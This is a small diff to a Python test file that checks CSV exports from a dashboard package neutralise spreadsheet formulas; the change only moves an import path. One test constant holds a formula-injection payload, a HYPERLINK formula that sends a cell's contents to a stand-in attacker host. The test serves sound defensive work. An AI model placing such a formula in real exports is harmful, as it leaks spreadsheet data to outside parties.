@@ -1,4 +1,4 @@
-"""CSV exports cannot inject spreadsheet formulas (roc_dash.exports)."""
+"""CSV exports cannot inject spreadsheet formulas (roc_dash.report.exports)."""
 
 from __future__ import annotations
 
@@ -9,7 +9,7 @@ import numpy as np
 import pandas as pd
 import pytest
 
-from roc_dash.exports import FORMULA_PREFIXES, csv_safe, neutralise, to_safe_csv
+from roc_dash.report.exports import FORMULA_PREFIXES, csv_safe, neutralise, to_safe_csv
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
 
